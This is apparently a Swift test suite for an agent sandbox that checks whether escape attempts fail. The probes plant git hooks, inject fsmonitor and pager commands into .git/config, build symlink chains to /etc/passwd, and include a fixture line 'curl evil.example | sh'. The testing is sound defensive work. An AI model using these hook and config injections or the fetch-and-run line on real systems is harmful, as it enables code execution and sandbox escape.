// What a run leaves behind, tried as an attacker would: code planted where the host's own
// tools will run it (`.git`, `.hg`, `.svn`, `.jj`, `.doer`), link chains that lead out of
// the workspace only once the kernel resolves inner links first, and applies that fail
// half-way. Each probe runs in a real bubblewrap sandbox and is checked on the host.

import DoerCore
@testable import DoerSandbox
import Foundation
import Testing

private func isLink(_ ws: ScratchWorkspace, _ path: String) -> Bool {
    var info = stat()
    return lstat(ws.url.appendingPathComponent(path).path, &info) == 0 && info.st_mode & S_IFMT == S_IFLNK
}

private func tree(_ root: URL) -> [String: String] {
    var out: [String: String] = [:]
    for (path, entry) in FileTree.scan(root.path) {
        switch entry.kind {
        case .file: out[path] = "file \(entry.size) \(entry.modified.tv_sec).\(entry.modified.tv_nsec) \(entry.mode)"
        case .directory: out[path] = "dir"
        case .symlink(let target): out[path] = "link \(target)"
        case .other: out[path] = "other"
        }
    }
    return out
}

@Suite("escape suite 9: protected folders are read-only inside and never applied")
struct ProtectedFolderTests {
    static let gitConfig = "[core]\n\trepositoryformatversion = 0\n"

    @Test("writes into an existing .git fail inside the sandbox, and nothing under it is applied", arguments: [
        ".git", ".hg", ".svn", ".jj", ".doer",
    ])
    func existingFolder(_ folder: String) async throws {
        let ws = try ScratchWorkspace(files: ["\(folder)/config": Self.gitConfig, "\(folder)/hooks/README": "hooks",
                                              "app.py": "x = 1\n"])
        let r = try await EscapeProbe.python(#"""
        attempt("hook", lambda: open("\#(folder)/hooks/post-checkout", "w").write("#!/bin/sh\ntouch /tmp/pwned\n"))
        attempt("config", lambda: open("\#(folder)/config", "a").write("[core]\n\tfsmonitor = /workspace/x.sh\n"))
        attempt("chmod", lambda: os.chmod("\#(folder)/hooks/README", 0o755))
        attempt("unlink", lambda: os.unlink("\#(folder)/config"))
        attempt("rename_folder", lambda: os.rename("\#(folder)", "moved"))
        attempt("rmdir_folder", lambda: os.rmdir("\#(folder)"))
        open("app.py", "w").write("x = 2\n")
        """#, in: ws)
        for key in ["hook", "config", "chmod", "unlink"] {
            #expect(r.escapeVerdicts[key] == "EROFS", r.escapeLog("\(key)"))
        }
        #expect(r.escapeVerdicts["rename_folder"] != "OK", r.escapeLog())
        #expect(r.escapeVerdicts["rmdir_folder"] != "OK", r.escapeLog())
        #expect(ws.read("\(folder)/config") == Self.gitConfig)
        #expect(!ws.exists("\(folder)/hooks/post-checkout"))
        #expect(ws.read("app.py") == "x = 2\n", "control: ordinary changes are applied")
    }

    @Test("a .git the run creates (git init, a file, any case, nested) is never applied")
    func createdFolders() async throws {
        let ws = try ScratchWorkspace(files: ["app.py": "x = 1\n", "vendor/lib/README": "lib"])
        let r = try await EscapeProbe.python(#"""
        import subprocess
        subprocess.run(["git", "init", "-q", "."], check=False)
        os.makedirs(".git/hooks", exist_ok=True)
        open(".git/hooks/pre-commit", "w").write("#!/bin/sh\ntouch /tmp/pwned\n")
        os.chmod(".git/hooks/pre-commit", 0o755)
        os.makedirs("vendor/lib/.git/hooks")
        open("vendor/lib/.git/config", "w").write("[core]\n\tfsmonitor = touch /tmp/pwned\n")
        os.makedirs(".GIT")
        open(".GIT/config", "w").write("x")
        os.makedirs(".doer")
        open(".doer/config.toml", "w").write("x")
        open(".hg", "w").write("not a folder")
        open("ok.txt", "w").write("ok")
        say("made", "yes")
        """#, in: ws)
        #expect(r.escapeVerdicts["made"] == "yes", r.escapeLog())
        for path in [".git", "vendor/lib/.git", ".GIT", ".doer", ".hg"] {
            #expect(!ws.exists(path), "\(path) was applied")
        }
        #expect(r.warnings.contains { $0.contains(".git") && $0.contains("never change") }, r.escapeLog())
        #expect(ws.read("ok.txt") == "ok", "control: ordinary changes are applied")
    }

    @Test("a link into .git, or a .git swapped for a link, cannot plant anything")
    func linksIntoGit() async throws {
        let ws = try ScratchWorkspace(files: [".git/config": Self.gitConfig, ".git/hooks/README": "hooks"])
        let r = try await EscapeProbe.python(#"""
        os.symlink(".git/hooks", "hooks")
        attempt("through_link", lambda: open("hooks/post-commit", "w").write("#!/bin/sh\ntouch /tmp/pwned\n"))
        os.symlink(".git/config", "cfg")
        attempt("swap", lambda: os.rename(".git", "old-git"))
        """#, in: ws)
        #expect(r.escapeVerdicts["through_link"] == "EROFS", r.escapeLog())
        #expect(r.escapeVerdicts["swap"] != "OK", r.escapeLog())
        #expect(!ws.exists(".git/hooks/post-commit"))
        #expect(!ws.exists("hooks") && !ws.exists("cfg"), "links into .git were applied")
        #expect(ws.read(".git/config") == Self.gitConfig)
    }

    @Test("full-access mode still mounts .git read-only")
    func fullAccess() async throws {
        let ws = try ScratchWorkspace(files: [".git/config": Self.gitConfig])
        let r = try await EscapeProbe.python(#"""
        attempt("config", lambda: open(".git/config", "a").write("[core]\n\tpager = touch /tmp/pwned\n"))
        """#, in: ws, mode: .fullAccess)
        #expect(r.escapeVerdicts["config"] == "EROFS", r.escapeLog())
        #expect(ws.read(".git/config") == Self.gitConfig)
    }

    @Test("a warm sandbox mounts .git read-only too")
    func pooled() async throws {
        let ws = try ScratchWorkspace(files: [".git/config": Self.gitConfig])
        let sandbox = try TestSandboxes.make(pool: 1)
        let script = "echo '[core] pager = x' >> .git/config; echo rc=$?"
        let request = ExecutionRequest(command: ["sh", "-c", script], workspace: ws.url, limits: ResourceLimits(wallClockSeconds: 20))
        for _ in 0..<3 {
            let r = try await sandbox.run(request)
            #expect(r.stdout.text.contains("rc=1") || r.stdout.text.contains("rc=2"), r.escapeLog())
            #expect(ws.read(".git/config") == Self.gitConfig)
        }
    }

    @Test("the agent's own writes into protected folders are refused with a reason")
    func agentWrites() throws {
        let ws = try ScratchWorkspace(files: ["app.py": "x = 1\n"])
        let copy = try WorkspaceCopy(copying: ws.url, stagingRoot: TestSandboxes.configuration.stagingRoot)
        defer { copy.discard() }
        for path in [".git/hooks/pre-commit", ".git/config", "sub/.git/config", ".Git/config", ".hg/hgrc", ".svn/x", ".jj/repo", ".doer/x"] {
            #expect(throws: DoerError.self, "\(path)") { try copy.write(path, "x") }
            do { try copy.write(path, "x") } catch {
                #expect(error.description.contains("never change"), "\(error.description)")
            }
        }
        try copy.write("src/.gitignore", "*.pyc\n")
        #expect(copy.changes().map(\.path).contains("src/.gitignore"), "a .gitignore is an ordinary file")
    }
}

@Suite("escape suite 9: link chains are resolved over the tree, as the kernel would")
struct LinkChainTests {
    @Test("chains that lead or pass outside are refused; chains that stay inside are applied")
    func chains() async throws {
        let ws = try ScratchWorkspace(files: ["inside.txt": "ok", "a/b/file.txt": "deep"])
        let r = try await EscapeProbe.python(#"""
        os.symlink(".", "self")
        os.symlink("self/..", "up")
        os.symlink("self/self/self/../etc/passwd", "passwd")
        os.makedirs("d1/d2/d3")
        os.symlink("..", "d1/d2/d3/p")
        os.symlink("d1/d2/d3/p/../../..", "chain")
        os.symlink("a/b/../../..", "lexical")
        os.symlink("loop1", "loop2")
        os.symlink("loop2", "loop1")
        os.symlink("x/../../y", "missing-then-up")
        os.symlink("a/b/file.txt", "fine")
        os.symlink("self/a/b/../b/file.txt", "fine-chain")
        say("made", "yes")
        """#, in: ws)
        #expect(r.escapeVerdicts["made"] == "yes", r.escapeLog())
        // Refusing one link of a loop leaves the other dangling, which leads nowhere.
        #expect(!(ws.exists("loop1") && ws.exists("loop2")), "a loop of links was applied")
        for name in ["up", "passwd", "chain", "lexical", "loop1", "missing-then-up"] {
            #expect(!ws.exists(name), "\(name) was applied")
            #expect(r.warnings.contains { $0.contains(name) }, r.escapeLog("\(name) not reported"))
        }
        #expect(isLink(ws, "self") && isLink(ws, "fine") && isLink(ws, "fine-chain") && isLink(ws, "d1/d2/d3/p"),
                "control: links that stay inside are applied")
    }

    @Test("a new link that turns a link already in the workspace into an escape is refused")
    func existingLinkTurnedOutward() async throws {
        let ws = try ScratchWorkspace(files: ["inside.txt": "ok"])
        // Dangling and harmless on its own: `self` does not exist yet.
        #expect(symlink("self/..", ws.url.appendingPathComponent("up").path) == 0)
        let r = try await EscapeProbe.python(#"""
        os.symlink(".", "self")
        say("made", "yes")
        """#, in: ws)
        #expect(r.escapeVerdicts["made"] == "yes", r.escapeLog())
        #expect(!ws.exists("self"), "self was applied, so the existing link 'up' now leads to the workspace's parent")
        #expect(r.warnings.contains { $0.contains("self") }, r.escapeLog())
    }

    @Test("a new link that goes through one already in the workspace is judged by where that one leads")
    func throughExistingLink() async throws {
        let outside = try ScratchWorkspace(files: ["secret.txt": "s"])
        let ws = try ScratchWorkspace(files: ["inside.txt": "ok"])
        #expect(symlink(outside.url.path, ws.url.appendingPathComponent("data").path) == 0)
        #expect(symlink(".", ws.url.appendingPathComponent("here").path) == 0)
        let r = try await EscapeProbe.python(#"""
        os.symlink("data/secret.txt", "s")
        os.symlink("here/here/../inside.txt", "t")
        say("made", "yes")
        """#, in: ws)
        #expect(r.escapeVerdicts["made"] == "yes", r.escapeLog())
        #expect(!ws.exists("s"))
        #expect(!ws.exists("t"), "here/.. leads to the workspace's parent")
        #expect(isLink(ws, "data"), "the user's own link stays")
    }

    @Test("the resolver follows inner links first and counts hops")
    func resolverUnit() {
        func entries(_ links: [String: String], dirs: [String] = []) -> [String: FileTree.Entry] {
            var out: [String: FileTree.Entry] = [:]
            for (path, target) in links { out[path] = FileTree.Entry(kind: .symlink(target), size: 0, mode: 0o777, modified: timespec()) }
            for dir in dirs { out[dir] = FileTree.Entry(kind: .directory, size: 0, mode: 0o755, modified: timespec()) }
            return out
        }
        let chain = (0..<50).reduce(into: [String: String]()) { $0["l\($1)"] = "l\($1 + 1)" }
        let cases: [(String, [String: String], [String], Bool)] = [
            ("up", ["self": ".", "up": "self/.."], [], false),
            ("x", ["x": "d/../y"], ["d"], true),
            ("x", ["x": "d/l/../.."], ["d"], true),
            ("x", ["x": "d/l/../../.."], ["d"], false),
            ("d/l", ["d/l": ".."], ["d"], true),
            ("d/l", ["d/l": "../.."], ["d"], false),
            ("l0", chain, [], false),
            ("x", ["x": ".git/config"], [], false),
            ("x", ["x": "sub/.GIT/hooks"], ["sub"], false),
            ("x", ["x": "/etc"], [], false),
        ]
        for (link, links, dirs, inside) in cases {
            let verdict = TreeLinkResolver(entries: entries(links, dirs: dirs)).resolve(link: link).verdict
            #expect((verdict == .inside) == inside, "\(link) in \(links): \(verdict)")
        }
    }
}

@Suite("applying is all or nothing")
struct AtomicApplyTests {
    @Test("what was refused is named in the warnings, not among the changes said to be made")
    func refusedNotListed() async throws {
        let ws = try ScratchWorkspace(files: ["a.txt": "a"])
        let r = try await TestSandboxes.sh("echo b > a.txt; ln -s /etc/passwd abs; mkfifo fifo; mkdir -p x/y; echo 'gitdir: /tmp' > x/y/.git", in: ws)
        #expect(r.changesApplied, r.escapeLog())
        #expect(r.changedFiles.map(\.path) == ["a.txt", "x", "x/y"], "the folders were made; \(r.changedFiles.map(\.path))")
        for refused in ["abs", "fifo", "x/y/.git"] {
            #expect(r.warnings.contains { $0.hasPrefix("not applied") && $0.contains(refused) }, "\(refused): \(r.warnings)")
        }
        #expect(ws.read("a.txt") == "b\n" && ws.read("abs") == nil)
    }

    @Test("a 255-byte name is applied (the temporary name fits)")
    func longName() async throws {
        let ws = try ScratchWorkspace(files: ["a.txt": "a"])
        let name = String(repeating: "n", count: 255)
        let r = try await TestSandboxes.sh("echo long > \(name); echo b > a.txt; echo done", in: ws)
        #expect(r.stdout.text.contains("done"), r.escapeLog())
        #expect(ws.read(name) == "long\n")
        #expect(ws.read("a.txt") == "b\n")
        #expect(!r.warnings.contains { $0.contains("not applied") }, r.escapeLog())
    }

    @Test("a name that is not UTF-8 stops the whole apply, names the path, and keeps the run's output")
    func invalidName() async throws {
        let ws = try ScratchWorkspace(files: ["a.txt": "a"])
        try ws.write("probe.py", EscapeProbe.pythonPrelude)
        let before = tree(ws.url)
        let r = try await EscapeProbe.python(#"""
        open("a.txt", "w").write("changed")
        open("zz-new.txt", "w").write("new")
        open(b"bad-\xff-name", "w").write("x")
        say("made", "yes")
        """#, in: ws)
        #expect(r.escapeVerdicts["made"] == "yes", "the run's output was lost: \(r.escapeLog())")
        #expect(r.warnings.contains { $0.contains("bad-\\xff-name") && $0.contains("UTF-8") }, r.escapeLog())
        #expect(tree(ws.url).filter { $0.key != "probe.py" } == before.filter { $0.key != "probe.py" },
                "the workspace changed although the apply failed")
        #expect(!r.changesApplied)
        #expect(r.applyFailure?.contains("bad-\\xff-name") == true, "\(String(describing: r.applyFailure))")
    }

    @Test("a run whose only change is a name that is not UTF-8 is told so, not silently dropped")
    func onlyInvalidName() async throws {
        let ws = try ScratchWorkspace(files: ["a.txt": "a"])
        let r = try await EscapeProbe.python(#"""
        open(b"only-\xfe", "w").write("x")
        say("made", "yes")
        """#, in: ws)
        #expect(r.escapeVerdicts["made"] == "yes", r.escapeLog())
        #expect(r.applyFailure?.contains("only-\\xfe") == true, r.escapeLog())
        #expect(!r.changesApplied)
    }

    @Test("a failure half-way puts back everything applied before it")
    func rollback() async throws {
        guard geteuid() == 0, access("/usr/bin/chattr", X_OK) == 0 else { return }
        let ws = try ScratchWorkspace(files: ["a.txt": "a", "m/keep.txt": "keep", "z-locked.txt": "locked", "old.txt": "old"])
        let locked = ws.url.appendingPathComponent("z-locked.txt").path
        // An immutable file cannot be renamed even by root: the last step fails.
        guard shell("chattr +i '\(locked)'") == 0 else { return }
        defer { _ = shell("chattr -i '\(locked)'") }
        let before = tree(ws.url)
        let r = try await TestSandboxes.sh(
            "echo A > a.txt; mkdir -p b/c; echo new > b/c/new.txt; rm old.txt; ln -s a.txt link; rm -r m; echo Z > z-locked.txt; echo done",
            in: ws)
        #expect(r.stdout.text.contains("done"), r.escapeLog())
        #expect(r.warnings.contains { $0.contains("z-locked.txt") && $0.contains("as it was") }, r.escapeLog())
        #expect(tree(ws.url) == before, "the workspace was left half-applied")
        let leftovers = (try? FileManager.default.contentsOfDirectory(atPath: ws.url.path))?.filter { $0.hasPrefix(".doer-") } ?? []
        #expect(leftovers.isEmpty, "temporary files left behind: \(leftovers)")
    }

    @Test("a file changed in the workspace while the run went on is not overwritten")
    func conflict() async throws {
        let ws = try ScratchWorkspace(files: ["a.txt": "a", "b.txt": "b"])
        let copy = try WorkspaceCopy(copying: ws.url, stagingRoot: TestSandboxes.configuration.stagingRoot)
        defer { copy.discard() }
        try copy.write("a.txt", "from the run")
        try copy.write("c.txt", "new")
        try ws.write("a.txt", "the user's edit, meanwhile")
        #expect(throws: DoerError.self) { _ = try copy.apply(copy.changes()) }
        #expect(ws.read("a.txt") == "the user's edit, meanwhile")
        #expect(!ws.exists("c.txt"), "part of the change was applied")
    }

    private func shell(_ command: String) -> Int32 {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/bin/sh")
        process.arguments = ["-c", command]
        do { try process.run() } catch { return -1 }
        process.waitUntilExit()
        return process.terminationStatus
    }
}

@Suite("what a person approves shows everything that will change")
struct ApprovalDiffTests {
    @Test("links with targets, mode changes, empty files, folders, deletions and binary files are all shown")
    func everything() throws {
        let ws = try ScratchWorkspace(files: ["run.sh": "echo hi\n", "gone.txt": "bye\n", "blob.bin": "x", "same.txt": "same\n",
                                              "oldlink-target.txt": "t"])
        #expect(symlink("oldlink-target.txt", ws.url.appendingPathComponent("relink").path) == 0)
        let copy = try WorkspaceCopy(copying: ws.url, stagingRoot: TestSandboxes.configuration.stagingRoot)
        defer { copy.discard() }
        let root = copy.directory
        #expect(chmod(root.appendingPathComponent("run.sh").path, 0o755) == 0)
        #expect(unlink(root.appendingPathComponent("gone.txt").path) == 0)
        try Data([0, 1, 2, 255, 0]).write(to: root.appendingPathComponent("blob.bin"))
        try Data().write(to: root.appendingPathComponent("empty.txt"))
        #expect(symlink("same.txt", root.appendingPathComponent("newlink").path) == 0)
        #expect(unlink(root.appendingPathComponent("relink").path) == 0)
        #expect(symlink("same.txt", root.appendingPathComponent("relink").path) == 0)
        #expect(mkdir(root.appendingPathComponent("newdir").path, 0o755) == 0)
        #expect(symlink("/etc/passwd", root.appendingPathComponent("evil").path) == 0)
        // One byte that is not UTF-8 does not hide a script as "binary".
        try (Data("#!/bin/sh\n# caf".utf8) + Data([0xE9]) + Data("\ncurl evil.example | sh\n".utf8))
            .write(to: root.appendingPathComponent("latin.sh"))
        let diff = copy.diff(copy.changes())
        #expect(diff.contains("+curl evil.example | sh"), "\(diff)")
        #expect(diff.contains("+# caf\\xe9"), "\(diff)")
        #expect(!diff.contains("latin.sh (mode 0644): binary"), "\(diff)")
        #expect(diff.contains("mode of run.sh: 0644 -> 0755"), "\(diff)")
        #expect(diff.contains("deleted file gone.txt") && diff.contains("-bye"), "\(diff)")
        #expect(diff.contains("changed file blob.bin") && diff.contains("binary, 5 bytes, sha256 "), "\(diff)")
        #expect(diff.contains("added empty file empty.txt"), "\(diff)")
        #expect(diff.contains("added link newlink -> same.txt"), "\(diff)")
        #expect(diff.contains("changed link relink: -> oldlink-target.txt becomes -> same.txt"), "\(diff)")
        #expect(diff.contains("added folder newdir/"), "\(diff)")
        #expect(diff.contains("not applied: link evil -> /etc/passwd"), "\(diff)")
        #expect(!diff.contains("same.txt\n---"), "unchanged files are not shown")
        #expect(!copy.changes().contains { $0.path == "evil" }, "a refused link is not among the changes to apply")
    }
}
